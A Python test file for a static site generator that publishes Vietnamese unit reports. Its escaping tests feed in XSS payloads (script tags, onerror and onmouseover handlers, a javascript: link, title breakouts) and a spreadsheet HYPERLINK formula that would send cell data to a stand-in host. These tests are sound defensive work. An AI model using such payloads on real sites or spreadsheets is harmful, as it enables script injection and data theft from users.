"""The site build, run as a user runs it: `python -m generator build`, then reading what it wrote."""

from __future__ import annotations

import json
import re
import shutil
import statistics
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml

from generator.numbers import date_vi, number
from generator.schema import REPORT_SCHEMA, child, enum_options, is_multiline, load_schema, resolve

ROOT = Path(__file__).resolve().parent.parent
SAMPLES = sorted((ROOT / "submissions").glob("*.yaml"))

# Text a unit could write to break out of its cell: HTML, script, Markdown and Jinja structure.
HOSTILE = {
    "script": "<script>window.__pwned = 1</script>",
    "img": '<img src="x" onerror="window.__pwned = 2">',
    "pipes": "| cột | giả |\n|---|---|\n| a | b |",
    "jinja": "{{ 7 * 7 }} và {% if true %}JINJA{% endif %} và {# chú thích #}",
    "heading": "# Tiêu đề giả\n\n---\n\n* mục giả\n_nghiêng_ `mã` [liên kết](javascript:alert(1))",
    "close": "</p></div></td></tr></table><h1>thoát</h1>",
    "attr": '" onmouseover="window.__pwned = 3" x="',
    "attr_list": 'văn bản {: .admonition onclick="window.__pwned=4" }',
}


def build(tmp: Path, *extra: str, env: dict[str, str] | None = None,
          cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
    """Run the build on the fixture in `tmp` exactly as `make site` does, with its folders (the
    tool in `cwd`: this checkout, or a copy of it)."""
    cmd = [
        sys.executable,
        "-m",
        "generator",
        "build",
        "--campaign",
        str(tmp / "campaign.yaml"),
        "--submissions",
        str(tmp / "submissions"),
        "--docs",
        str(tmp / "docs"),
        "--site",
        str(tmp / "site"),
        "--config-dir",
        str(tmp / "build"),
        *extra,
    ]
    return subprocess.run(cmd, cwd=cwd, capture_output=True, text=True, timeout=300, env=env)


def copy_samples(tmp: Path) -> Path:
    """A private copy of the campaign and the samples, so tests never touch the repository's."""
    shutil.copy(ROOT / "campaign.yaml", tmp / "campaign.yaml")
    (tmp / "submissions").mkdir()
    for f in SAMPLES:
        shutil.copy(f, tmp / "submissions" / f.name)
    return tmp


def hostile_fixture(tmp: Path) -> tuple[Path, str]:
    """A valid submission whose every kind of text field carries hostile text."""
    copy_samples(tmp)
    # A final report with rows in every list (a draft's lists may still be empty).
    sample = next(f for f in SAMPLES if f.name == "xa-xuan-lap.yaml")
    data = yaml.safe_load(sample.read_text(encoding="utf-8"))
    uid = data["unit"]["id"]
    data["section_1"]["situation"] = "\n\n".join(HOSTILE.values())
    data["section_1"]["advantages"] = HOSTILE["heading"]
    data["signer"]["name"] = HOSTILE["script"]
    data["signer"]["position"] = HOSTILE["attr"]
    data["appendix_1"][0]["summary"] = HOSTILE["pipes"].replace("\n", " ")
    data["appendix_1"][0]["type"] = HOSTILE["img"]
    data["appendix_4"][0]["note"] = HOSTILE["jinja"]
    data["appendix_6"][0]["note"] = HOSTILE["attr_list"]
    if data["section_3_1"]["targets"]:
        data["section_3_1"]["targets"][0]["comment"] = HOSTILE["pipes"]  # a cell of a small table
    if data["section_3_2_3"]["movements"]:
        data["section_3_2_3"]["movements"][0]["name"] = HOSTILE["heading"].splitlines()[0]
    data["section_6"]["recommendations"] = HOSTILE["close"] + "\n" + HOSTILE["jinja"]
    if data["good_models"]:
        data["good_models"][0]["name"] = HOSTILE["close"]
    if data["commendations"]:
        data["commendations"][0]["name"] = HOSTILE["img"]
    (tmp / "submissions" / sample.name).write_text(
        yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8"
    )
    return tmp, uid


class _Text(HTMLParser):
    """The text of a page's article and every tag and attribute in it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.depth = 0
        self.chunks: list[str] = []
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "article":
            self.depth += 1
        if self.depth:
            self.tags.append((tag, attrs))
            self.chunks.append(" ")

    def handle_endtag(self, tag: str) -> None:
        if self.depth:
            self.chunks.append(" ")
        if tag == "article":
            self.depth -= 1

    def handle_data(self, data: str) -> None:
        if self.depth:
            self.chunks.append(data)


def article(path: Path) -> tuple[str, list[tuple[str, list[tuple[str, str | None]]]]]:
    p = _Text()
    p.feed(path.read_text(encoding="utf-8"))
    return " ".join("".join(p.chunks).split()), p.tags


def norm(s: str) -> str:
    return " ".join(s.split())


def test_pages_exist(sample_site: Path) -> None:
    site = sample_site / "site"
    for page in (
        "index.html",
        "trang-thai.html",
        "cach-gui.html",
        "don-vi/index.html",
        "muc/index.html",
        "muc/muc-1.html",
        "muc/muc-3-2-1.html",
        "muc/muc-3-2-4.html",
        "muc/muc-6.html",
        "tai-ve/bao-cao.json",
        "tai-ve/phu-luc-5.csv",
        "assets/sortable.js",
    ):
        assert (site / page).is_file(), page
    for sample in SAMPLES:
        uid = yaml.safe_load(sample.read_text(encoding="utf-8"))["unit"]["id"]
        assert (site / "don-vi" / f"{uid}.html").is_file()


def test_unit_page_has_every_section_and_appendix_in_order(sample_site: Path) -> None:
    schema = load_schema(REPORT_SCHEMA)
    headings = [
        schema["properties"][k]["x-heading"]
        for k in schema["properties"]
        if "x-heading" in schema["properties"][k]
    ]
    uid = yaml.safe_load(SAMPLES[0].read_text(encoding="utf-8"))["unit"]["id"]
    text, tags = article(sample_site / "site" / "don-vi" / f"{uid}.html")
    positions = [text.find(norm(h)) for h in headings]
    assert all(p >= 0 for p in positions), [h for h, p in zip(headings, positions) if p < 0]
    assert positions == sorted(positions)
    assert (
        sum(1 for t, a in tags if t == "table" and "appendix" in (dict(a).get("class") or "")) == 6
    )


def _scalars(
    value: Any, node: dict[str, Any] | None, path: tuple[Any, ...] = ()
) -> Iterator[tuple[tuple[Any, ...], Any, dict[str, Any]]]:
    root = load_schema(REPORT_SCHEMA)
    if isinstance(value, dict):
        for k, v in value.items():
            yield from _scalars(v, child(node, k, root) if node else None, path + (k,))
    elif isinstance(value, list):
        for i, v in enumerate(value):
            yield from _scalars(v, child(node, i, root) if node else None, path + (i,))
    else:
        yield path, value, node or {}


def _shown(value: Any, node: dict[str, Any]) -> list[str]:
    """How the page shows one scalar: every string that must appear (one per line for narrative)."""
    if value is None:
        return ["—"]
    no_data = dict(node.get("x-no-data", ()))
    if isinstance(value, str) and value in no_data:
        return [no_data[value]]  # "không áp dụng" as its label, in words, never as a number
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return [number(value, group=node.get("minimum") != 1900)]
    opts = enum_options(node)
    if opts:
        return [dict(opts)[value]]
    if node.get("format") == "date":
        return [date_vi(value)]
    if is_multiline(node):
        return [
            re.sub(r"^\s*[-•]\s+", "", line).strip() for line in value.splitlines() if line.strip()
        ]
    return [line for line in value.splitlines() if line.strip()]


def missing_values(data: dict[str, Any], text: str) -> list[tuple[tuple[Any, ...], str]]:
    """Every (path, shown form) of a report's values that `text` does not contain."""
    root = resolve(load_schema(REPORT_SCHEMA), load_schema(REPORT_SCHEMA))
    missing = []
    for path, value, node in _scalars(data, root):
        for shown in _shown(value, node):
            needle = norm(shown)
            if isinstance(value, (int, float)) and not isinstance(value, bool):
                # A number must stand alone, not be part of a longer one ("8" inside "548").
                found = (
                    re.search(rf"(?<![\d.,]){re.escape(needle)}(?![\d]|[.,]\d)", text) is not None
                )
            else:
                found = needle in text
            if not found:
                missing.append((path, shown))
    return missing


@pytest.mark.parametrize("sample", SAMPLES, ids=[s.stem for s in SAMPLES])
def test_every_value_of_every_sample_is_on_its_page(sample_site: Path, sample: Path) -> None:
    data = yaml.safe_load(sample.read_text(encoding="utf-8"))
    text, _ = article(sample_site / "site" / "don-vi" / f"{data['unit']['id']}.html")
    missing = missing_values(data, text)
    assert not missing, missing[:10]


def _row_cells(md: str, table_class: str, row: int = 0) -> list[str]:
    table = md[md.index(f'class="appendix {table_class}"') :]
    body = table[table.index("<tbody>") : table.index("</tbody>")]
    rows = [r for r in body.split("\n") if r.startswith("<tr")]
    return re.findall(r"<td[^>]*>(.*?)</td>", rows[row])


FINALS = [f for f in SAMPLES if yaml.safe_load(f.read_text(encoding="utf-8"))["status"] == "final"]


def test_no_data_is_said_in_words_never_zero_and_left_out_of_means(tmp_path: Path) -> None:
    tmp = copy_samples(tmp_path)
    f = tmp / "submissions" / FINALS[0].name
    data = yaml.safe_load(f.read_text(encoding="utf-8"))
    data["appendix_5"]["health_insurance_rate"] = "không có số liệu"
    data["appendix_3"]["peoples_council"] = "không áp dụng"
    f.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    r = build(tmp)
    assert r.returncode == 0, r.stdout + r.stderr
    md = (tmp / "docs" / "don-vi" / f"{data['unit']['id']}.md").read_text(encoding="utf-8")
    assert _row_cells(md, "appendix-5")[9] == '<span class="no-data">Không có số liệu</span>'
    assert _row_cells(md, "appendix-3")[-1] == '<span class="no-data">Không áp dụng</span>'
    # Appendix 5's own page: a row per unit, then the district's rows; the summary: those only.
    page = (tmp / "docs" / "tong-hop" / "phu-luc-5.md").read_text(encoding="utf-8")
    summary = (tmp / "docs" / "index.md").read_text(encoding="utf-8")
    others = [
        yaml.safe_load((tmp / "submissions" / g.name).read_text(encoding="utf-8"))["appendix_5"]["health_insurance_rate"]
        for g in FINALS[1:]
    ]
    known = [v for v in others if isinstance(v, (int, float))]
    for md, first in ((page, len(FINALS)), (summary, 0)):
        reported = _row_cells(md, "appendix-5", first + 4)  # the "units with data" row
        assert reported[9] == f"{len(known)}/{len(FINALS)}"
        mean_row = _row_cells(md, "appendix-5", first + 1)
        assert mean_row[9] == number(round(statistics.fmean(known), 1))
    row = next(r for r in page.split("\n") if f'don-vi/{data["unit"]["id"]}.html"' in r and "<td" in r)
    assert re.findall(r"<td[^>]*>(.*?)</td>", row)[9] == '<span class="no-data">Không có số liệu</span>'


def test_decimals_a_unit_wrote_are_shown_as_written(tmp_path: Path) -> None:
    """1.255 million VND is 1.255.000 đồng: the page and the CSV must not round it to 1,26."""
    import csv

    tmp = copy_samples(tmp_path)
    f = tmp / "submissions" / FINALS[0].name
    data = yaml.safe_load(f.read_text(encoding="utf-8"))
    data["appendix_5"]["houses"]["funding"] = 1.255
    data["appendix_5"]["health_insurance_rate"] = 78.125
    text = yaml.safe_dump(data, allow_unicode=True, sort_keys=False)
    # Three decimals after one mark read both ways (1.255 or 1255?): a unit writes them so they
    # cannot be a grouped whole number, as the validator advises.
    text = text.replace("funding: 1.255\n", "funding: 1,2550\n").replace("rate: 78.125\n", "rate: 78,1250\n")
    f.write_text(text, encoding="utf-8")
    r = build(tmp)
    assert r.returncode == 0, r.stdout + r.stderr
    md = (tmp / "docs" / "don-vi" / f"{data['unit']['id']}.md").read_text(encoding="utf-8")
    cells = _row_cells(md, "appendix-5")
    assert (cells[7], cells[9]) == ("1,255", "78,125")
    text = (tmp / "site" / "tai-ve" / "phu-luc-5.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(text.splitlines()))
    row = next(row for row in rows if row[1] == data["unit"]["name"])
    assert "1.255" in row and "78.125" in row


def test_appendix_1_columns_are_the_schemas_fields(sample_site: Path) -> None:
    """Appendix 1's table and CSV take their columns from the schema: a field added there shows."""
    import csv

    root = load_schema(REPORT_SCHEMA)
    item = child(child(resolve(root, root), "appendix_1", root) or {}, 0, root) or {}
    titles = [str((child(item, k, root) or {})["title"]) for k in item["properties"]]
    sample = yaml.safe_load(SAMPLES[0].read_text(encoding="utf-8"))
    md = (sample_site / "docs" / "don-vi" / f"{sample['unit']['id']}.md").read_text(encoding="utf-8")
    table = md[md.index('class="appendix appendix-1 ') :]
    head = table[table.index("<thead>") : table.index("</thead>")]
    assert re.findall(r"<th>(.*?)</th>", head) == ["TT", *titles]
    text = (sample_site / "site" / "tai-ve" / "phu-luc-1.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(text.splitlines()))
    assert rows[0] == ["Mã đơn vị", "Tên đơn vị", "TT", *titles]
    first = sample["appendix_1"][0]
    row = next(r for r in rows if r[0] == sample["unit"]["id"] and r[2] == "1")
    assert row[3:] == [str(first[k]) for k in item["properties"]]


def test_pages_of_good_models_and_commendations_are_titled_as_the_schema_and_linked_from_the_summary(
    sample_site: Path,
) -> None:
    root = load_schema(REPORT_SCHEMA)
    md = (sample_site / "docs" / "index.md").read_text(encoding="utf-8")
    for key, slug in (("good_models", "mo-hinh-hay"), ("commendations", "khen-thuong")):
        title = root["properties"][key]["title"]
        page = (sample_site / "docs" / "tong-hop" / f"{slug}.md").read_text(encoding="utf-8")
        assert f"\n# {title}\n" in page
        # The summary's old anchor stays, on the link to the page.
        assert f'id="{slug}"><a href="tong-hop/{slug}.html"><strong>{title}</strong></a>' in md

def test_two_builds_are_byte_identical_and_the_second_writes_nothing(tmp_path: Path) -> None:
    if not SAMPLES:
        pytest.skip("no sample submissions yet")
    tmp = copy_samples(tmp_path)
    assert build(tmp).returncode == 0
    first = {
        p.relative_to(tmp / "docs"): p.read_bytes()
        for p in (tmp / "docs").rglob("*")
        if p.is_file()
    }
    mtimes = {p: (tmp / "docs" / p).stat().st_mtime_ns for p in first}
    r = build(tmp, "--force")  # without it, the build stops before rendering (tests/test_rebuild.py)
    assert r.returncode == 0, r.stderr
    assert "(0 ghi mới," in r.stdout
    second = {
        p.relative_to(tmp / "docs"): p.read_bytes()
        for p in (tmp / "docs").rglob("*")
        if p.is_file()
    }
    assert first == second
    assert {p: (tmp / "docs" / p).stat().st_mtime_ns for p in second} == mtimes


def test_a_changed_file_rewrites_only_the_pages_it_is_on(tmp_path: Path) -> None:
    tmp = copy_samples(tmp_path)
    assert build(tmp).returncode == 0
    docs = tmp / "docs"
    before = {p: p.stat().st_mtime_ns for p in docs.rglob("*.md")}
    f = sorted((tmp / "submissions").glob("*.yaml"))[0]
    data = yaml.safe_load(f.read_text(encoding="utf-8"))
    data["section_6"]["recommendations"] += "\n\nMột kiến nghị thêm."
    f.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    r = build(tmp)
    assert r.returncode == 0, r.stderr
    changed = {
        p.relative_to(docs).as_posix() for p, t in before.items() if p.stat().st_mtime_ns != t
    }
    assert changed == {f"don-vi/{data['unit']['id']}.md", "muc/muc-6.md"}


def test_a_deleted_submission_loses_its_page(tmp_path: Path) -> None:
    tmp = copy_samples(tmp_path)
    assert build(tmp).returncode == 0
    f = sorted((tmp / "submissions").glob("*.yaml"))[-1]
    uid = yaml.safe_load(f.read_text(encoding="utf-8"))["unit"]["id"]
    assert (tmp / "docs" / "don-vi" / f"{uid}.md").is_file()
    f.unlink()
    r = build(tmp)
    assert r.returncode == 0, r.stderr
    assert not (tmp / "docs" / "don-vi" / f"{uid}.md").exists()
    assert not (tmp / "site" / "don-vi" / f"{uid}.html").exists()
    status, _ = article(tmp / "site" / "trang-thai.html")
    assert "Chưa gửi" in status


def test_invalid_data_prints_the_problems_and_builds_nothing(tmp_path: Path) -> None:
    tmp = copy_samples(tmp_path)
    f = sorted((tmp / "submissions").glob("*.yaml"))[0]
    f.write_text(
        f.read_text(encoding="utf-8").replace("  members: ", "  members: nhiều ", 1),
        encoding="utf-8",
    )
    r = build(tmp)
    assert r.returncode == 1
    assert re.search(
        rf"submissions/{re.escape(f.name)}:\d+:\d+: lỗi: Mục I › Số đoàn viên: ", r.stdout
    ), r.stdout
    assert not (tmp / "site").exists()
    assert not (tmp / "docs").exists()


def test_hostile_text_is_shown_literally(hostile_site: tuple[Path, str]) -> None:
    tmp, uid = hostile_site  # hostile_fixture, built once per session (conftest.py)
    page = tmp / "site" / "don-vi" / f"{uid}.html"
    text, tags = article(page)
    for name, s in HOSTILE.items():
        for line in s.splitlines():
            if line.strip():
                assert norm(re.sub(r"^\s*[-•]\s+", "", line)) in text, (name, line)
    # Nothing a unit wrote became markup: no script, no event handler, no link, no extra
    # heading, rule or table.
    assert not any(t == "script" for t, _ in tags)
    assert not any(k.startswith("on") for _, attrs in tags for k, _ in attrs)
    assert not any(v and "javascript:" in v for _, attrs in tags for _, v in attrs)
    assert not any(t == "hr" for t, _ in tags)
    assert [t for t, _ in tags].count("h1") == 1
    assert "49" not in re.findall(r"\d+", text[text.find("{{") : text.find("{{") + 12])
    src = page.read_text(encoding="utf-8")
    assert "<script>window.__pwned" not in src
    assert '<img src="x"' not in src
    # The generated Markdown carries the text as entities only.
    md = (tmp / "docs" / "don-vi" / f"{uid}.md").read_text(encoding="utf-8")
    assert (
        "{{ 7" not in md
        and "<script>" not in md
        and "\n# Tiêu" not in md
        and "\n---\n\n*" not in md
    )


def test_titles_given_to_mkdocs_are_safe(tmp_path: Path) -> None:
    tmp = copy_samples(tmp_path)
    campaign = (tmp / "campaign.yaml").read_text(encoding="utf-8")
    first = yaml.safe_load(campaign)["units"][0]["name"]
    campaign = campaign.replace(f'"{first}"', '"</title><script>window.__pwned=5</script>"', 1)
    site_name = yaml.safe_load(campaign)["site_name"]
    campaign = campaign.replace(f'"{site_name}"', '"Tổng kết </title><script>window.__pwned=6</script>"', 1)
    (tmp / "campaign.yaml").write_text(campaign, encoding="utf-8")
    r = build(tmp)
    assert r.returncode == 0, r.stdout + r.stderr
    for page in (tmp / "site").rglob("*.html"):
        assert "<script>window.__pwned" not in page.read_text(encoding="utf-8"), page


def test_site_name_comes_from_the_campaign(sample_site: Path, tmp_path: Path) -> None:
    name = yaml.safe_load((ROOT / "campaign.yaml").read_text(encoding="utf-8"))["site_name"]
    assert f"<title>Tổng hợp - {name}</title>" in (sample_site / "site" / "index.html").read_text(encoding="utf-8")
    # Without one, the plan number names the site.
    tmp = copy_samples(tmp_path)
    doc = yaml.safe_load((tmp / "campaign.yaml").read_text(encoding="utf-8"))
    del doc["site_name"]
    (tmp / "campaign.yaml").write_text(yaml.safe_dump(doc, allow_unicode=True), encoding="utf-8")
    r = build(tmp)
    assert r.returncode == 0, r.stdout + r.stderr
    index = (tmp / "site" / "index.html").read_text(encoding="utf-8")
    assert f"<title>Tổng hợp - Báo cáo theo kế hoạch {doc['plan']['number']}</title>" in index


def _csv_rows(path: Path) -> list[list[str]]:
    import csv

    return list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))


def test_downloads(sample_site: Path) -> None:
    dl = sample_site / "site" / "tai-ve"
    doc = json.loads((dl / "bao-cao.json").read_text(encoding="utf-8"))
    # Every file is published, drafts marked as such (the web editor starts from them).
    assert len(doc["submissions"]) == len(SAMPLES)
    assert sorted(s["status"] == "draft" for s in doc["submissions"]).count(True) == len(SAMPLES) - len(FINALS)
    # Unit rows only, final reports only; the statistics are in a file of their own.
    rows = _csv_rows(dl / "phu-luc-5.csv")
    finals = [yaml.safe_load(f.read_text(encoding="utf-8")) for f in FINALS]
    assert rows[0][:2] == ["Mã đơn vị", "Tên đơn vị"]
    assert sorted(r[0] for r in rows[1:]) == sorted(d["unit"]["id"] for d in finals)
    stats = _csv_rows(dl / "tong-hop.csv")
    assert stats[0][:4] == ["Phần", "Chỉ tiêu", "Cách tổng hợp", "Giá trị của huyện"]
    bhyt = next(r for r in stats if r[1].startswith("Tỷ lệ ĐV, TN tham gia BHYT"))
    assert bhyt[2] == "trung bình không trọng số"  # percentages are never summed
    members = next(r for r in stats if r[1] == "Số đoàn viên" and r[0].startswith("I."))
    assert members[3] == str(sum(d["section_1"]["members"] for d in finals))
    assert members[7:] == [str(len(finals)), str(len(finals))]
    # Whole numbers without ".0"; what a unit wrote instead of a number, in its words.
    outline = _csv_rows(dl / "so-lieu-de-cuong.csv")
    assert not any(re.fullmatch(r"\d+\.0", c) for r in outline for c in r)
    assert any("không áp dụng" in r for r in outline)
    a4 = _csv_rows(dl / "phu-luc-4.csv")
    assert len(a4) == 1 + 5 * len(finals)  # one row per unit and year
    assert any(r[3] == "không có số liệu" for r in a4)


def test_csv_downloads_keep_formulas_as_text(tmp_path: Path) -> None:
    """A unit's text that a spreadsheet would run ("=HYPERLINK(…)") is written as text."""
    import csv

    tmp = copy_samples(tmp_path)
    sample = tmp / "submissions" / FINALS[0].name
    data = yaml.safe_load(sample.read_text(encoding="utf-8"))
    data["appendix_1"][0]["summary"] = '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm")'
    data["appendix_1"][0]["type"] = "@SUM(1+1)"
    sample.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    r = build(tmp)
    assert r.returncode == 0, r.stdout + r.stderr
    text = (tmp / "site" / "tai-ve" / "phu-luc-1.csv").read_text(encoding="utf-8-sig")
    row = next(row for row in csv.reader(text.splitlines()) if row[0] == data["unit"]["id"])
    assert row[3:7] == [
        "'@SUM(1+1)",
        data["appendix_1"][0]["number"],
        str(data["appendix_1"][0]["year"]),
        '\'=HYPERLINK("http://example.invalid/?d="&A1,"Bấm")',
    ]

def many_units(tmp: Path, n: int) -> tuple[dict[str, Any], list[Path]]:
    """A campaign of `n` units in `tmp`, each submitting a copy of a sample as "Đơn vị <i>"."""
    campaign = yaml.safe_load((ROOT / "campaign.yaml").read_text(encoding="utf-8"))
    samples = [yaml.safe_load(f.read_text(encoding="utf-8")) for f in SAMPLES]
    roster, paths = [], []
    (tmp / "submissions").mkdir()
    for i in range(n):
        data = dict(samples[i % len(samples)])
        uid = f"don-vi-{i:03d}"
        data["unit"] = dict(data["unit"], id=uid, name=f"Đơn vị {i}")
        roster.append(
            {"id": uid, "name": f"Đơn vị {i}", "kind": data["unit"]["kind"], "editors": []}
        )
        paths.append(tmp / "submissions" / f"{uid}.yaml")
        paths[-1].write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    campaign["units"] = roster
    (tmp / "campaign.yaml").write_text(
        yaml.safe_dump(campaign, allow_unicode=True), encoding="utf-8"
    )
    return campaign, paths


def test_many_units_render_the_same_in_parallel_and_leave_the_nav(tmp_path: Path) -> None:
    from generator import aggregate, render
    from generator.validate import check_all

    campaign, paths = many_units(tmp_path, render.PARALLEL_THRESHOLD + 6)
    result = check_all(tmp_path / "campaign.yaml", paths)
    assert result.ok
    units = aggregate.units_from(
        campaign, [(p, f.data or {}, f.problems) for p, f in zip(paths, result.files)], tmp_path
    )
    period = tuple(range(campaign["period"]["start"], campaign["period"]["end"] + 1))
    view = render.site_view(
        campaign, units, aggregate.status_summary(units), aggregate.aggregate(units, period)
    )
    assert render.render_pages(view, jobs=1) == render.render_pages(view, jobs=2)
    assert len(units) > render.UNITS_IN_NAV_MAX and not view.units_in_nav
    assert "don-vi/don-vi-000.md" not in repr(render.nav(view))


def indexed_pages(site: Path) -> set[str]:
    """The pages Pagefind indexes: those whose article carries data-pagefind-body."""
    return {p.relative_to(site).as_posix() for p in site.rglob("*.html")
            if "data-pagefind-body" in p.read_text(encoding="utf-8")}


def narrative_words(sample: Path) -> str:
    """The first words of a sample's first narrative text."""
    situation = yaml.safe_load(sample.read_text(encoding="utf-8"))["section_1"]["situation"]
    return " ".join(situation.split()[:6])


def test_every_page_is_in_the_search_index_but_the_search_page(sample_site: Path) -> None:
    site = sample_site / "site"
    pages = {p.relative_to(site).as_posix() for p in site.rglob("*.html")}
    # Every page with content, outline sections included; not the search page nor the 404 page.
    assert indexed_pages(site) == pages - {"tim-kiem.html", "404.html"}
    assert {"muc/muc-3-2-1.html", "trang-thai.html", "don-vi/xa-xuan-lap.html"} <= indexed_pages(site)
    entry = json.loads((site / "pagefind" / "pagefind-entry.json").read_text(encoding="utf-8"))
    assert entry["languages"]["vi"]["page_count"] == len(pages) - 2
    assert not (site / "search").exists()  # Material's lunr index is gone
    # Every sample's text is on its page, inside the indexed article.
    for sample in SAMPLES:
        uid = sample.stem
        assert narrative_words(sample) in article(site / "don-vi" / f"{uid}.html")[0], uid
    # The search page loads Pagefind from the site itself.
    assert "assets/search.js" in (site / "tim-kiem.html").read_text(encoding="utf-8")


def test_many_units_have_every_text_in_the_search_index(tmp_path: Path) -> None:
    from generator import render

    n = render.UNITS_IN_NAV_MAX + 1
    many_units(tmp_path, n)
    r = build(tmp_path)
    assert r.returncode == 0, r.stdout + r.stderr
    site = tmp_path / "site"
    indexed = indexed_pages(site)
    assert {f"don-vi/don-vi-{i:03d}.html" for i in range(n)} <= indexed
    page = site / "don-vi" / "don-vi-007.html"
    # The unit's texts are inside the indexed article, and nothing marks them to be left out.
    assert narrative_words(SAMPLES[0]) in article(page)[0]
    assert "data-search-exclude" not in page.read_text(encoding="utf-8")
    entry = json.loads((site / "pagefind" / "pagefind-entry.json").read_text(encoding="utf-8"))
    assert entry["languages"]["vi"]["page_count"] == len(indexed)
    # At this size all reports download as one JSON file in a zip archive.
    dl = site / "tai-ve"
    assert not (dl / "bao-cao.json").exists()
    with zipfile.ZipFile(dl / "bao-cao.zip") as archive:
        assert archive.namelist() == ["bao-cao.json"]
        doc = json.loads(archive.read("bao-cao.json"))
    assert len(doc["submissions"]) == n
    assert "bao-cao.zip" in (site / "index.html").read_text(encoding="utf-8")


def test_every_page_beside_the_unit_pages_is_a_reserved_unit_id(sample_site: Path) -> None:
    """Unit pages are don-vi/<id>.html: every other page or folder the build writes there is in
    RESERVED_UNIT_IDS (so campaign.yaml refuses a unit with its name), and every reserved id is
    such a page: a new page cannot take a unit's name silently (issue 16)."""
    from generator.validate import RESERVED_UNIT_IDS

    campaign = yaml.safe_load((sample_site / "campaign.yaml").read_text(encoding="utf-8"))
    ids = {u["id"] for u in campaign["units"]}
    for folder, ext in ((sample_site / "site" / "don-vi", ".html"), (sample_site / "docs" / "don-vi", ".md")):
        names = {p.name.removesuffix(ext) for p in folder.iterdir()}
        assert names & ids, folder  # the units' pages are here
        assert names - ids == set(RESERVED_UNIT_IDS), (folder, sorted(names - ids))
